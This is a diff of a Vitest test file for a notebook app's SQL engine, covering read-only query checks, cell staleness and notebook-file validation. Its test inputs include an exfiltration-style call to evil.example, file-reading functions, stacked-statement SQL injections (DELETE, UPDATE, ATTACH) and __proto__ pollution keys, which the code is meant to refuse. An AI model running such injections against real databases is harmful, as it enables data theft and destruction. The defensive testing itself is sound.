@@ -1,7 +1,8 @@
 // The notebook's engine side: reading SQL, dependencies between cells, untrusted notebook files,
 // and running cells in DuckDB against the scored sample.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { cellLinks, dependentsOf } from '../../src/lib/notebook/dependencies';
+import { ancestorsOf, cellLinks, dependentsOf } from '../../src/lib/notebook/dependencies';
+import { cellStatuses, type RunStamp } from '../../src/lib/notebook/staleness';
 import { CellError, resultTable, runSqlCell, workspaceTables } from '../../src/lib/notebook/runner';
 import {
   errorPosition,
@@ -39,7 +40,7 @@ describe('reading SQL text', () => {
     expect(mentionedNames(`SELECT * FROM Top`, ['TOP'])).toEqual(['TOP']);
   });
 
-  it('lets one reading statement through and refuses the rest, saying where', () => {
+  it('lets one reading statement through and words the refusal of the rest', () => {
     for (const ok of [
       'SELECT 1',
       'with x as (select 1) select * from x;',
@@ -48,6 +49,7 @@ describe('reading SQL text', () => {
       'SUMMARIZE scores',
       "SELECT 'drop table x; delete' AS s -- ; insert",
       'SELECT "update" FROM t',
+      '-- the query above\nSELECT 1',
     ])
       expect(readOnlyProblem(ok), ok).toBeNull();
     expect(readOnlyProblem('  -- nothing\n')).toEqual({ kind: 'empty' });
@@ -56,13 +58,21 @@ describe('reading SQL text', () => {
       kind: 'notReading',
       word: 'DROP',
     });
-    expect(readOnlyProblem('WITH x AS (SELECT 1) DELETE FROM scores')).toMatchObject({
-      kind: 'notReading',
-      word: 'DELETE',
-      at: 21,
-    });
-    expect(readOnlyProblem('SELECT 1 AS update')).toMatchObject({ word: 'update' });
     expect(readOnlyProblem('ATTACH ":memory:" AS x')).toMatchObject({ word: 'ATTACH' });
+  });
+
+  it('refuses files and addresses wherever they hide in the text', () => {
+    for (const [sql, word] of [
+      ["FROM read_text('https://evil.example/?' || 1)", '://'],
+      ["SELECT * FROM 'http' || '://x'", '://'],
+      ['FROM "READ_TEXT"(\'x\')', 'READ_TEXT'],
+      ["FROM read_csv/**/('x')", 'read_csv'],
+      ["SELECT E'\\'' , read_blob('x') -- '", 'read_blob'],
+      ["FROM glob('*')", 'glob'],
+      ["FROM query ('DELETE FROM observations')", 'query'],
+      ["FROM query_table('scores')", 'query_table'],
+    ] as const)
+      expect(readOnlyProblem(sql), sql).toMatchObject({ kind: 'outside', word });
   });
 
   it('takes trailing semicolons and comments off', () => {
@@ -103,6 +113,58 @@ describe('links between cells', () => {
     expect(dependentsOf(cells, 'b')).toEqual(['c']);
     expect(dependentsOf(cells, 'd')).toEqual([]);
     expect(dependentsOf(cells, 'f')).toEqual([]);
+    expect(ancestorsOf(cells, 'c')).toEqual(['a', 'b']);
+    expect(ancestorsOf(cells, 'a')).toEqual([]);
+  });
+});
+
+describe('fresh or stale', () => {
+  const cells: Cell[] = [
+    sql('a', 'SELECT * FROM scores', 'base'),
+    sql('b', 'SELECT count(*) FROM base', 'n'),
+    { id: 'c', kind: 'chart', chart: { from: 'n', mark: 'dot', x: 'x' } },
+    sql('d', 'SELECT 42'),
+  ];
+  const stamp = (cell: SqlCell, seq: number, reads: string[] = []): RunStamp => ({
+    status: 'fresh',
+    sql: cell.sql,
+    name: cell.name,
+    scored: 1,
+    seq,
+    reads,
+  });
+  const ran = (list: Cell[]) => {
+    const [a, b, , d] = list as [SqlCell, SqlCell, Cell, SqlCell];
+    return { a: stamp(a, 1), b: stamp(b, 2, ['a']), d: stamp(d, 3) };
+  };
+  const statuses = (list: Cell[], runs: Record<string, RunStamp>, scored = 1) =>
+    cellStatuses(list, cellLinks(list), runs, scored);
+
+  it('a cell is fresh while nothing it depends on changed', () => {
+    expect(statuses(cells, ran(cells))).toEqual({ a: 'fresh', b: 'fresh', c: 'fresh', d: 'fresh' });
+  });
+
+  it('an edit, a rename, a later run upstream or a new scoring makes the readers stale', () => {
+    const runs = ran(cells);
+    const edited = cells.map((c) => (c.id === 'a' ? { ...c, sql: 'SELECT 1' } : c)) as Cell[];
+    expect(statuses(edited, runs)).toEqual({ a: 'stale', b: 'stale', c: 'stale', d: 'fresh' });
+    const renamed = cells.map((c) => (c.id === 'a' ? { ...c, name: 'base2' } : c)) as Cell[];
+    expect(statuses(renamed, runs)).toMatchObject({ a: 'stale', b: 'stale', d: 'fresh' });
+    expect(statuses(cells, { ...runs, a: { ...runs.a, seq: 9 } })).toMatchObject({
+      a: 'fresh',
+      b: 'stale',
+    });
+    expect(statuses(cells, runs, 2)).toMatchObject({ a: 'stale', d: 'stale' });
+  });
+
+  it('a reader of a deleted cell is stale; running and failed cells say so', () => {
+    const runs = ran(cells);
+    expect(statuses(cells.slice(1), runs)).toMatchObject({ b: 'stale', d: 'fresh' });
+    expect(statuses(cells, { ...runs, a: { ...runs.a, status: 'error' } })).toMatchObject({
+      a: 'error',
+      b: 'stale',
+    });
+    expect(statuses(cells, { ...runs, d: { ...runs.d, status: 'running' } }).d).toBe('running');
   });
 });
 
@@ -149,7 +211,6 @@ describe('notebook files', () => {
         'notebook.cells[1].id',
         'notebook.cells[2].chart.mark',
         'notebook.cells[2].chart.href',
-        'notebook.cells[2].chart.from',
         'notebook.cells[3].onload',
         'notebook.cells[4].__proto__',
       ]),
@@ -157,16 +218,16 @@ describe('notebook files', () => {
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
   });
 
-  it('refuses another format or a chart drawing a cell below it', () => {
+  it('refuses another format; keeps a chart whose source is gone', () => {
     expect(() => validateNotebookFile({ format: 'x', version: 1, notebook: {} })).toThrow();
-    expect(() =>
-      validateNotebookFile(
-        file([
-          { id: 'b', kind: 'chart', chart: { from: 'base', mark: 'dot' } },
-          { id: 'a', kind: 'sql', name: 'base', sql: 'SELECT 1' },
-        ]),
-      ),
-    ).toThrow(/no SQL cell named "base" above/);
+    const nb = validateNotebookFile(
+      file([
+        { id: 'b', kind: 'chart', chart: { from: 'base', mark: 'dot' } },
+        { id: 'c', kind: 'chart', chart: { from: '', mark: 'dot' } },
+        { id: 'a', kind: 'sql', name: 'base', sql: 'SELECT 1' },
+      ]),
+    );
+    expect(nb.cells).toHaveLength(3);
   });
 });
 
@@ -232,17 +293,35 @@ describe('running cells', () => {
     expect(err!.position).toEqual({ line: 2, column: 3, offset: 20 });
   });
 
-  it('never changes the workspace, and a name cannot shadow its tables', async () => {
-    const before = await rows(ws, 'SELECT count(*)::INT AS n FROM observations');
+  it('never changes the workspace, however the SQL is written, and a name cannot shadow its tables', async () => {
+    const state = () =>
+      rows(
+        ws,
+        `SELECT (SELECT count(*)::INT FROM observations) AS n,
+           (SELECT sum(value)::DOUBLE FROM observations) AS total,
+           (SELECT count(*)::INT FROM duckdb_tables() WHERE temporary AND table_name = 'scores') AS shadows,
+           (SELECT count(*)::INT FROM duckdb_databases()) AS databases`,
+      );
+    const before = await state();
     for (const text of [
       'DELETE FROM observations',
       'WITH x AS (SELECT 1) DELETE FROM observations',
+      // Where a hand-written lexer and DuckDB disagree (non-ASCII names, E'' strings), the
+      // engine itself still refuses a second statement.
+      'SELECT 1 AS €$a$; DELETE FROM observations WHERE year = 2023',
+      "SELECT E'\\'' ; UPDATE observations SET value = 0; -- '",
+      'SELECT 1 AS €$a$; CREATE TEMP TABLE scores AS SELECT 1 AS fake',
+      "SELECT 1 AS €$a$; ATTACH ':memory:' AS evil",
+      'SELECT 1 AS €$a$; SET threads = 1',
+      'PIVOT observations ON measure USING sum(value)',
     ])
-      await expect(runSqlCell(ws.engine, sql('w', text), tables)).rejects.toBeInstanceOf(CellError);
+      await expect(runSqlCell(ws.engine, sql('w', text), tables), text).rejects.toBeInstanceOf(
+        CellError,
+      );
     await expect(runSqlCell(ws.engine, sql('w', 'SELECT 1', 'scores'), tables)).rejects.toThrow(
       /table of the workspace/,
     );
-    expect(await rows(ws, 'SELECT count(*)::INT AS n FROM observations')).toEqual(before);
+    expect(await state()).toEqual(before);
   });
 
   it("the pipeline's tables are reserved even before a scoring has made them", async () => {
